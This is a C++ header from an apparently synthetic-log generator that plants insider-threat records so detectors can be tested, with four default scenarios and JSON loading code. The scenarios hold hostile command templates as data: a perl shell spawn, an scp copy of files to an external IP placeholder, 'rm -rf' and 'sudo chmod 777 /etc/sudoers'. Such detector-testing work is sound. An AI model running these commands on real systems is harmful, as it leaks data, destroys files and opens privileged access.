#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "synlog/csv.hpp"
#include "synlog/error.hpp"

#include "json.hpp"

namespace synlog {

// Template for one planted insider-threat record. A scenario overrides the
// fields that carry the threat semantics; everything else is drawn from the
// same pools as standard records, so threats differ by content, not by
// surface format.
//
// Every shipped scenario must trip at least one baseline-detector cue
// (unapproved application, high criticality + failure, or a suspicious
// command); the generator asserts this so planted threats stay detectable.
struct ThreatScenario {
    std::string scenario_id;
    std::string command_template;  // {object} and {external_ip} placeholders
    std::vector<std::string> app_pool;
    std::uint32_t approved_permille = 0;  // sanctioned-flag distribution
    std::string criticality;              // forced value, or "" to draw
    std::string status;                   // forced value, or "" to draw
    std::string action;                   // forced value, or "" to draw
    std::uint64_t min_bytes = 0;
    std::uint64_t min_previous_occurrences = 0;
    std::string description;
};

inline std::vector<ThreatScenario> default_scenarios() {
    std::vector<ThreatScenario> s;
    s.push_back({"suspicious-shell-exec",
                 "perl -e 'exec \"/bin/sh\";'",
                 {"oracle", "python3", "perl"},
                 0,
                 "high",
                 "success",
                 "access",
                 0,
                 0,
                 "unsanctioned application spawning an interactive shell"});
    s.push_back({"unsanctioned-bulk-read",
                 "scp -r {object} ext-archive@{external_ip}:/incoming/",
                 {"rclone", "filezilla", "megasync"},
                 0,
                 "medium",
                 "success",
                 "access",
                 5'000'000,
                 0,
                 "bulk copy of shared data through an unapproved transfer tool"});
    s.push_back({"offhours-critical-delete",
                 "rm -rf {object}",
                 {"sshd"},
                 1000,
                 "high",
                 "success",
                 "delete",
                 0,
                 0,
                 "destructive delete against a high-criticality object"});
    s.push_back({"repeated-failed-privileged-modify",
                 "sudo chmod 777 /etc/sudoers",
                 {"sshd", "oracle"},
                 1000,
                 "high",
                 "failure",
                 "modify",
                 0,
                 12,
                 "repeated failed attempts to loosen a privileged file"});
    return s;
}

inline void to_json(nlohmann::json& j, const ThreatScenario& s) {
    j = nlohmann::json{{"scenario_id", s.scenario_id},
                       {"command_template", s.command_template},
                       {"app_pool", s.app_pool},
                       {"approved_permille", s.approved_permille},
                       {"criticality", s.criticality},
                       {"status", s.status},
                       {"action", s.action},
                       {"min_bytes", s.min_bytes},
                       {"min_previous_occurrences", s.min_previous_occurrences},
                       {"description", s.description}};
}

inline void from_json(const nlohmann::json& j, ThreatScenario& s) {
    j.at("scenario_id").get_to(s.scenario_id);
    j.at("command_template").get_to(s.command_template);
    j.at("app_pool").get_to(s.app_pool);
    if (j.contains("approved_permille")) j.at("approved_permille").get_to(s.approved_permille);
    if (j.contains("criticality")) j.at("criticality").get_to(s.criticality);
    if (j.contains("status")) j.at("status").get_to(s.status);
    if (j.contains("action")) j.at("action").get_to(s.action);
    if (j.contains("min_bytes")) j.at("min_bytes").get_to(s.min_bytes);
    if (j.contains("min_previous_occurrences"))
        j.at("min_previous_occurrences").get_to(s.min_previous_occurrences);
    if (j.contains("description")) j.at("description").get_to(s.description);
}

inline std::vector<ThreatScenario> load_scenarios(const std::string& path) {
    nlohmann::json j;
    try {
        j = nlohmann::json::parse(read_text_file(path));
    } catch (const nlohmann::json::exception& e) {
        throw ConfigError(path + ": " + e.what());
    }
    std::vector<ThreatScenario> out = j.get<std::vector<ThreatScenario>>();
    for (const auto& s : out) {
        if (s.scenario_id.empty()) throw ConfigError(path + ": scenario with empty scenario_id");
        if (s.app_pool.empty())
            throw ConfigError(path + ": scenario '" + s.scenario_id + "' has empty app_pool");
    }
    return out;
}

}  // namespace synlog
